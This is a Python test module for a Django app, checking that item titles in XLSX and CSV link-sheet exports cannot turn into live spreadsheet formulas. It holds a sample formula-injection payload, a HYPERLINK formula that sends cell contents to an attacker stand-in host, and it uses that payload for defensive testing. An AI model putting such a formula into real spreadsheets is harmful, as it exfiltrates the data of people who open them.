"""The link sheet is formula-safe: an item title cannot become a live formula."""

from __future__ import annotations

import csv
import io

from django.utils import translation
from openpyxl import load_workbook

from assessments.models import Item
from disclosures.exports import link_sheet_export

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Click")'


def _o1_titled(title: str) -> None:
    Item.objects.filter(code="O1", edition__code="ita-2564-2565").update(title_th=title)


def test_the_title_is_a_text_cell_in_the_xlsx(org):
    _o1_titled(HYPERLINK)
    with translation.override("th"):
        content = link_sheet_export(organisation=org, fiscal_year=2565, fmt="xlsx")
    title = load_workbook(io.BytesIO(content)).active["B2"]
    assert title.data_type == "s" and title.value == HYPERLINK


def test_the_title_is_quoted_in_the_csv(org):
    _o1_titled(HYPERLINK)
    with translation.override("th"):
        content = link_sheet_export(organisation=org, fiscal_year=2565, fmt="csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1][0] == "O1" and rows[1][1] == "'" + HYPERLINK
